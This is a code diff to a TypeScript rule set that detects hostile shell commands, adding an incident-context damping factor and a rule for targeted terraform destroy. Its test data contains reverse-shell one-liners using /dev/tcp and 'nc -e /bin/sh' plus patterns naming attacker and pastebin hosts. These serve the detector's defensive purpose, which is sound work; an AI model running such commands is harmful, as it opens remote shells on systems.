@@ -1,6 +1,7 @@
 import type { RuleMatch, RuleSpec } from "../../src/contracts/rule.ts";
 import type { JobKind } from "../../src/contracts/verdict.ts";
 import { around, before } from "./mention.ts";
+import { unlessOfIncident } from "./of-others.ts";
 import { list } from "./phrases.ts";
 import { isThrowaway } from "./throwaway.ts";
 
@@ -21,7 +22,7 @@ const refused = /^(?:\/32)?[^;|&\n]{0,80}\s-j (?:drop|reject)\b/u;
 const behind = (match: RuleMatch): string => match.text.slice(match.end, match.end + 100);
 
 /** Deletions that are told by name what goes: no rights, no force, no whole server. */
-const deletesNamed = /\bdelete\b|\bs3 r[bm]\b|delete-(?:stack|bucket|db)|apps:destroy/u;
+const deletesNamed = /\bdelete\b|\bs3 r[bm]\b|delete-(?:stack|bucket|db)|apps:destroy|\s-target[= ]/u;
 /** Whether what is destroyed, up to the end of its command, was set up to be thrown away. */
 const namesThrowaway = (text: string): boolean => isThrowaway(/^[^\n;&|#]*/u.exec(text)?.[0] ?? "");
 
@@ -58,7 +59,10 @@ export const systemPayloadRules: readonly RuleSpec[] = [
     hits: ["bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "nc -e /bin/sh 203.0.113.5 4444"],
     misses: ["nc -zv localhost 8080", "ls -la /dev/tty", "a reverse auction"],
     confirm: (match) =>
-      /\b(?:what is|explain|detect|article|tutorial|example of)\b/u.test(before(match, 80)) ? 0.5 : 1,
+      Math.min(
+        /\b(?:what is|explain|detect|article|tutorial|example of)\b/u.test(before(match, 80)) ? 0.5 : 1,
+        unlessOfIncident(match),
+      ),
   },
   {
     id: "TOOL-1230",
@@ -83,7 +87,7 @@ export const systemPayloadRules: readonly RuleSpec[] = [
       if (
         /https?:\/\/(?:\d{1,3}\.){3}\d|http:\/\/|downloadstring|pastebin|\.onion|evil|attacker|malicious/u.test(matched)
       )
-        return 1.5;
+        return 1.5 * unlessOfIncident(match);
       return /rustup|get\.docker|brew|nvm|deb\.nodesource|sh\.|install\.|get\./u.test(matched) ? 0.7 : 0.9;
     },
   },
@@ -366,6 +370,7 @@ export const systemPayloadRules: readonly RuleSpec[] = [
       "terraform plan",
       "kubectl delete namespace preview-77",
       "az group delete -n sandbox-ann --yes",
+      "terraform destroy -target=module.preview_142 -auto-approve",
     ],
     confirm: (match) => (deletesNamed.test(around(match, 0, 0)) && namesThrowaway(around(match, 0, 80)) ? 0 : 1),
   },
